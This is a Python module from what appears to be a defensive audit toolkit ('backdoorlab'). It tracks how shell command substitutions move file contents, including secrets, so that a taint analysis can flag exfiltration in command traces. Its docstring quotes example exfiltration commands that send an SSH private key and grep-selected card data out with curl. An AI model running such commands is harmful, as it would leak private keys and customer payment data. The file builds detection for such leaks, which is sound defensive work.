"""What a command sends through a substitution in its own words: ``curl -d "$(cat
~/.ssh/id_rsa)" URL``, ``curl -d "$(grep -i visa customers.csv)" URL`` — the text it
sends is a command's output, which the call's text never writes.

- When the trace shows that output (`shell_values.output_of`: an earlier result of the
  same command, a file a call wrote, a file a result showed whole or in part,
  `shown_files`), it is what the command sends: `with_outputs` writes it in, for
  `taint` to match values in as if written there.
- When it does not, the values are unknown and none is guessed; but a substitution that
  prints a file's text moves that file by reference, as ``curl -d @f`` does
  (`unseen_reads`): `state_flow` gives each destination of the same command a
  `by_reference` transfer of it, which `taint` judges by who receives it
  (`by_reference.strength`: a secrets file, `secret_file`, is strong; another file
  medium, as ``-d @f`` is; a public key or a configuration's example, `public_file`,
  nothing). The files are those `file_operands` names (``grep visa customers.csv``
  prints part of ``customers.csv``; ``wc -l f`` prints no text of ``f``), and a secrets
  file named by any command (``openssl rsa -in key.pem``). A file whose whole text the
  trace showed is the values' to judge.
"""

from __future__ import annotations

from collections.abc import Iterator

from backdoorlab.defenses.audit.file_operands import content_files
from backdoorlab.defenses.audit.secret_files import public_file, secret_file
from backdoorlab.defenses.audit.shell_parse import pipelines, program
from backdoorlab.defenses.audit.shell_state import ShellState
from backdoorlab.defenses.audit.shell_values import inline
from backdoorlab.defenses.audit.shown_files import lookup

MAX_TEXT = 65536


def with_outputs(text: str, state: ShellState) -> str | None:
    """``text`` with each substitution whose output the trace shows written as that
    output; None when it has none. An assigned one is its variable's (`with_values`)."""
    if "$(" not in text and "`" not in text:
        return None
    text = text[:MAX_TEXT]
    parts, at = [], 0
    for start, end, command in inline(text, assigned=False):
        shown = state.output(command)
        if shown is not None:
            parts += [text[at:start], shown]
            at = end
    return ("".join(parts) + text[at:])[:MAX_TEXT] if parts else None


def unseen_reads(text: str, state: ShellState) -> Iterator[tuple[str, str]]:
    """(path, command) of each file a substitution of ``text`` prints (or a secrets file
    it reads) whose whole text the trace never showed; ``command``: the text of the
    command it is part of (its destinations receive it)."""
    if "$(" not in text and "`" not in text:
        return
    text = text[:MAX_TEXT]
    bounds: list[tuple[int, int]] | None = None
    for start, _, command in inline(text):
        for path in dict.fromkeys(_files_read(command)):
            if _whole(path, state) or public_file(path):
                continue  # the values' to judge; a public key or an example: nothing
            bounds = bounds if bounds is not None else _commands(text)
            yield path, next((text[a:b] for a, b in bounds if a <= start < b), text)


def _whole(path: str, state: ShellState) -> bool:
    if state.content_of(path):
        return True
    shown = lookup(state.shown, path)
    return shown is not None and shown.whole


def _files_read(command: str) -> list[str]:
    """The files a substituted command moves: those whose text a stage prints
    (`file_operands`), and any secrets file a stage names (``grep KEY .env``, ``openssl
    rsa -in key.pem``: what it prints of a key is the key's)."""
    found = []
    for pipeline in pipelines(command):
        for stage in pipeline:
            found += content_files(stage)
            found += [w for w in program(stage.words)[1:] if secret_file(w)]
    return found


def _commands(text: str) -> list[tuple[int, int]]:
    """Where each command of a text starts and ends: at ``;``, ``&&``, ``||``, ``&`` and
    newlines outside quotes and substitutions (a pipeline is one command: its stages
    pass the data on)."""
    bounds, begin, depth, at = [], 0, 0, 0
    single = double = False
    while at < len(text):
        c = text[at]
        if single:
            single = c != "'"
        elif c == "\\":
            at += 1
        elif c == "'" and not double:
            single = True
        elif c == '"':
            double = not double
        elif c == "(":
            depth += 1
        elif c == ")":
            depth = max(0, depth - 1)
        elif not double and depth == 0 and _ends_command(text, at):
            bounds.append((begin, at))
            begin = at + 1
        at += 1
    return [*bounds, (begin, len(text))]


def _ends_command(text: str, at: int) -> bool:
    """Whether the character at ``at`` ends a command: ``;``, a newline, ``&`` (not of
    ``2>&1``, ``&>`` or ``|&``) or ``||``."""
    c = text[at]
    if c in ";\n":
        return True
    if c == "&":
        return text[at - 1 : at] not in ("|", ">") and text[at + 1 : at + 2] != ">"
    return text.startswith("||", at)
